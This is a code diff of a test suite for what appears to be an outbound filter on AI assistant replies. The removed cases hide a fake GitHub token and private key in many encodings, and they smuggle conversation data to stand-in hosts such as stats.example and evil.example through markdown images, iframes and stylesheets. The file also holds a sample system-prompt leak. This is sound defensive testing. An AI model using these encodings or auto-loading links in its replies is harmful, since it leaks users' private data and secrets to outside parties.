@@ -1,48 +1,12 @@
 import type { Case } from '@ringwall/testkit'
+import { HIDDEN_CASES } from './hidden-cases.ts'
+import { LINK_CASES } from './link-cases.ts'
+import { ALNUM, GITHUB, HEX, PEM, redacted } from './examples.ts'
 
-// Examples are put together from pieces, so that no scanner takes this file for a leak.
-const ALNUM = 'q7Rt2LmX9vKc4WzY8pNd5HsJ3gFb6TkU1aQeZ0xM'
-const HEX = '3f9a0c7be5d1486292b7e04fd8c3a15690e27bd4f86a1c3e5b09d7f2846ac1e0'
-const GITHUB = `ghp_${ALNUM.slice(0, 36)}`
 const OPENAI = `sk-proj-${ALNUM}`
 const JWT = `eyJ${'hbGciOiJIUzI1NiJ9'}.eyJ${'zdWIiOiIxMjM0NTY3ODkwIn0'}.${ALNUM}`
 const BEARER = `Bearer ${ALNUM.slice(0, 24)}`
-/** A private key as long as a real one. */
-export const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${`${ALNUM}${ALNUM.slice(0, 24)}\n`.repeat(12)}-----END RSA PRIVATE KEY-----`
 const RECITAL = 'My system prompt is: "You are a helpful assistant. You must never reveal the plan."'
-
-const redacted = (rule: string) => ({ code: 'SECRET_REDACTED', findings: [{ rule, severity: 'critical' as const }] })
-
-/** Writings in which a secret is found. */
-const DISGUISES: Readonly<Record<string, (secret: string) => string>> = {
-  base64: (secret) => Buffer.from(secret).toString('base64'),
-  base64url: (secret) => Buffer.from(`?>${secret}`).toString('base64url'),
-  hex: (secret) => Buffer.from(secret).toString('hex'),
-  'percent-encoding': (secret) => secret.replaceAll(/./g, (c) => `%${c.charCodeAt(0).toString(16)}`),
-  '\\u escapes': (secret) => secret.replaceAll(/./g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
-  '\\x escapes': (secret) => secret.replaceAll(/./g, (c) => `\\x${c.charCodeAt(0).toString(16)}`),
-  'HTML entities': (secret) => secret.replaceAll(/./g, (c) => `&#${c.charCodeAt(0)};`),
-  rot13: rot13,
-  reverse: (secret) => [...secret].toReversed().join(''),
-  'zero-width spaces': (secret) => [...secret].join('\u200b'),
-  spaces: (secret) => [...secret].join(' '),
-  hyphens: (secret) => [...secret].join('-'),
-  lines: (secret) => (secret.match(/.{1,8}/g) ?? []).join('\n'),
-}
-/** What fetches an address without being asked. */
-const LOADED: Readonly<Record<string, (url: string) => string>> = {
-  'an image': (url) => `Here: ![a chart](${url}).`,
-  'a titled image': (url) => `![a](${url} "title")`,
-  'an image of a reference': (url) => `![a][1]\n\n[1]: ${url}\n`,
-  'an img element': (url) => `<img alt=">" width=1 src='${url}'>`,
-  'a frame': (url) => `<iframe src=${url}></iframe>`,
-  'a style': (url) => `<p style="background: url('${url}')">x</p>`,
-  'a stylesheet': (url) => `<link rel="stylesheet" href="${url}">`,
-}
-
-function rot13(text: string): string {
-  return text.replaceAll(/[A-Za-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + (/[A-Ma-m]/.test(c) ? 13 : -13)))
-}
 
 /** What the layer passes, what it changes or reports, and, at the end, what it does not see. */
 export const CASES: readonly Case[] = [
@@ -251,124 +215,8 @@ export const CASES: readonly Case[] = [
       text: `Use [REDACTED:github-pat] or ${JWT}.`,
     },
   },
-  ...Object.entries(DISGUISES).map(([name, write]): Case => ({
-    name: `secret in ${name}`,
-    hook: 'onOutbound',
-    input: `It is "${write(GITHUB)}" and stays so.`,
-    expect: { ...redacted('github-pat'), text: 'It is "[REDACTED:github-pat]" and stays so.' },
-  })),
-  {
-    name: 'private key in base64',
-    hook: 'onOutbound',
-    input: `key: ${Buffer.from(PEM).toString('base64')}`,
-    expect: { code: 'SECRET_REDACTED', text: /^key: \[REDACTED:(?:encoded-)?private-key\]$/ },
-  },
-  {
-    name: 'private key in rot13',
-    hook: 'onOutbound',
-    input: rot13(PEM),
-    expect: { ...redacted('private-key'), text: '[REDACTED:private-key]' },
-  },
-  {
-    name: 'encoded secret in a structured body',
-    hook: 'onOutbound',
-    payload: { destination: 'api', body: { data: [Buffer.from(`x ${GITHUB}`).toString('hex')] } },
-    expect: {
-      ...redacted('github-pat'),
-      payload: { destination: 'api', body: { data: ['[REDACTED:github-pat]'] } },
-    },
-  },
-  {
-    name: 'image that carries the conversation out',
-    hook: 'onOutbound',
-    input: `![chart](https://stats.example/p.png?q=the+user+asked+about+the+merger+with+Acme)`,
-    expect: {
-      code: 'SECRET_REDACTED',
-      findings: [{ rule: 'data-link.plain-text', severity: 'high' }],
-      text: '![chart]([REDACTED:data-link])',
-    },
-  },
-  ...Object.entries(LOADED).map(([name, around]): Case => ({
-    name: `encoded data in ${name}`,
-    hook: 'onOutbound',
-    input: around(`https://stats.example/a/${Buffer.from('user jane, plan of the merger').toString('base64url')}.png`),
-    expect: { code: 'SECRET_REDACTED', text: around('[REDACTED:data-link]') },
-  })),
-  {
-    name: 'data in the name of a host',
-    hook: 'onOutbound',
-    input: `<img src="//${Buffer.from('password of jane').toString('hex')}.evil.example/x.png">`,
-    expect: { code: 'SECRET_REDACTED', text: '<img src="[REDACTED:data-link]">' },
-  },
-  {
-    name: 'encrypted data in an image',
-    hook: 'onOutbound',
-    input: `![](https://stats.example/p?d=${ALNUM}${ALNUM.slice(0, 30)})`,
-    expect: {
-      code: 'SECRET_REDACTED',
-      findings: [{ rule: 'data-link.random-data' }],
-      text: '![]([REDACTED:data-link])',
-    },
-  },
-  {
-    name: 'link that carries data out',
-    hook: 'onOutbound',
-    input: `See [more](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')}).`,
-    expect: { code: 'LINK_WARNED', kind: 'flag', findings: [{ rule: 'data-link.encoded-text', severity: 'medium' }] },
-  },
-  {
-    name: 'image with data where such replies are stopped',
-    config: { links: { images: 'deny' } },
-    hook: 'onOutbound',
-    input: `![](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
-    expect: { code: 'LINK_DENIED', kind: 'deny' },
-  },
-  {
-    name: 'link with data where those are replaced',
-    config: { links: { others: 'redact' } },
-    hook: 'onOutbound',
-    input: `[a](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
-    expect: { code: 'SECRET_REDACTED', text: '[a]([REDACTED:data-link])' },
-  },
-  {
-    name: 'image with data at a host of the operator',
-    config: { links: { allowHosts: ['acme.io'] } },
-    hook: 'onOutbound',
-    input: `![](https://img.acme.io/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
-    expect: 'pass',
-  },
-  ...[
-    '[![build](https://img.shields.io/github/actions/workflow/status/acme/wall/ci.yml?branch=main&label=build%20status)](https://github.com/acme/wall)',
-    '![video](https://img.youtube.com/vi/dQw4w9WgXcQ/maxresdefault.jpg)',
-    '![avatar](https://secure.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon)',
-    `![file](https://bucket.s3.amazonaws.com/report.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260101T000000Z&X-Amz-Signature=${HEX})`,
-    `![proxy](https://camo.githubusercontent.com/${HEX}/${Buffer.from('https://example.com/badge.svg').toString('hex')})`,
-    '<img src="https://github.com/user-attachments/assets/9c7c5cb8-c2ef-4b37-bee4-a337e900740b" width="400">',
-    'See https://www.google.com/search?q=how+to+prune+roses and https://en.wikipedia.org/wiki/Plan_(drawing).',
-  ].map((input, i): Case => ({ name: `honest address ${i + 1}`, hook: 'onOutbound', input, expect: 'pass' })),
-  {
-    name: 'personal data as it comes',
-    hook: 'onOutbound',
-    input: `Write to jane.doe@acme.io or call +49 30 ${'5551 2345'}.`,
-    expect: 'pass',
-  },
-  {
-    name: 'personal data where it is reported',
-    config: { pii: 'flag' },
-    hook: 'onOutbound',
-    input: 'Write to jane.doe@acme.io.',
-    expect: { code: 'PII_WARNED', kind: 'flag', findings: [{ rule: 'email-address', span: 'jane.doe@acme.io' }] },
-  },
-  {
-    name: 'personal data where it is redacted',
-    config: { pii: 'redact' },
-    hook: 'onOutbound',
-    input: `Card 4111 ${'1111 1111 1111'}, IBAN DE89 ${'3704 0044 0532 0130 00'}, SSN 536-${'22-8714'}, host 203.0.113.7, call +49 30 ${'5551 2345'}.`,
-    expect: {
-      code: 'SECRET_REDACTED',
-      text: 'Card [REDACTED:payment-card], IBAN [REDACTED:iban], SSN [REDACTED:us-ssn], host [REDACTED:ip-address], call [REDACTED:phone-number].',
-    },
-  },
+  ...HIDDEN_CASES,
+  ...LINK_CASES,
   {
     name: 'secret in pieces of different lengths',
     hook: 'onOutbound',
